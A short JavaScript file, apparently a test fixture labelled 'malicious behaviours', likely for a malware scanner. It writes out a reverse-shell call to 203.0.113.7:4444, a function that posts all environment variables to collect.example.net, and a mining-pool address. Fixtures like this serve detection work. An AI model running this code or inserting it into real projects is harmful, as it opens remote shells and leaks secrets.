// Fixture: malicious behaviours.
import { spawn } from 'node:child_process';
export function backdoor() {
  spawn('/bin/sh', ['-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
}
export async function beacon() {
  await fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });
}
const pool = 'stratum+tcp://pool.example.net:3333';
export { pool };
